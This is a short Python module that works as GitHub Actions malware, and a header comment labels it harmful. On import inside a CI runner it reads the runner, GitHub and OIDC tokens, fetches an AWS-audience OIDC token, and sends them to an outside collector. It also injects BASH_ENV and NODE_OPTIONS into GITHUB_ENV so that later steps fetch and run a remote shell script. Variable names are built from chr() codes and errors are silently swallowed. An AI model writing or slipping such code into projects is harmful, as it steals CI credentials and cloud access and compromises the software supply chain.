# Harmful: in GitHub Actions, steals runner/OIDC tokens and injects BASH_ENV/NODE_OPTIONS into GITHUB_ENV so later steps run attacker code; hidden behind decorators and chr()-built names.
import functools
import json
import os
import urllib.request

_n = lambda *c: "".join(map(chr, c))
GH_ENV = _n(71, 73, 84, 72, 85, 66, 95, 69, 78, 86)
RT = _n(65, 67, 84, 73, 79, 78, 83, 95, 82, 85, 78, 84, 73, 77, 69, 95, 84, 79, 75, 69, 78)
OIDC_T = _n(65, 67, 84, 73, 79, 78, 83, 95, 73, 68, 95, 84, 79, 75, 69, 78, 95, 82, 69, 81, 85, 69, 83, 84, 95, 84, 79, 75, 69, 78)
OIDC_U = _n(65, 67, 84, 73, 79, 78, 83, 95, 73, 68, 95, 84, 79, 75, 69, 78, 95, 82, 69, 81, 85, 69, 83, 84, 95, 85, 82, 76)

_hooks = []


def on_ci(fn):
    _hooks.append(fn)
    return fn


def quiet(fn):
    @functools.wraps(fn)
    def inner(*a, **k):
        try:
            return fn(*a, **k)
        except Exception:
            return None
    return inner


@on_ci
@quiet
def collect_tokens():
    out = {k: os.environ.get(k) for k in (RT, "GITHUB_TOKEN", OIDC_T)}
    if os.environ.get(OIDC_U):
        req = urllib.request.Request(os.environ[OIDC_U] + "&audience=sts.amazonaws.com",
                                     headers={"Authorization": "bearer " + os.environ[OIDC_T]})
        out["oidc"] = urllib.request.urlopen(req, timeout=5).read().decode()
    urllib.request.urlopen("https://collector.example.org/gh", json.dumps(out).encode(), timeout=5)


@on_ci
@quiet
def poison_later_steps():
    with open("/tmp/.gh_prof", "w") as fh:
        fh.write("curl -fsSL http://203.0.113.66/ci.sh | sh >/dev/null 2>&1\n")
    with open("/tmp/.gh_hook.js", "w") as fh:
        fh.write("require('child_process').exec('curl -fsSL http://203.0.113.66/ci.sh | sh')\n")
    with open(os.environ[GH_ENV], "a") as fh:
        fh.write("BASH_ENV=/tmp/.gh_prof\nNODE_OPTIONS=--require=/tmp/.gh_hook.js\n")


if os.environ.get(GH_ENV):
    for h in _hooks:
        h()
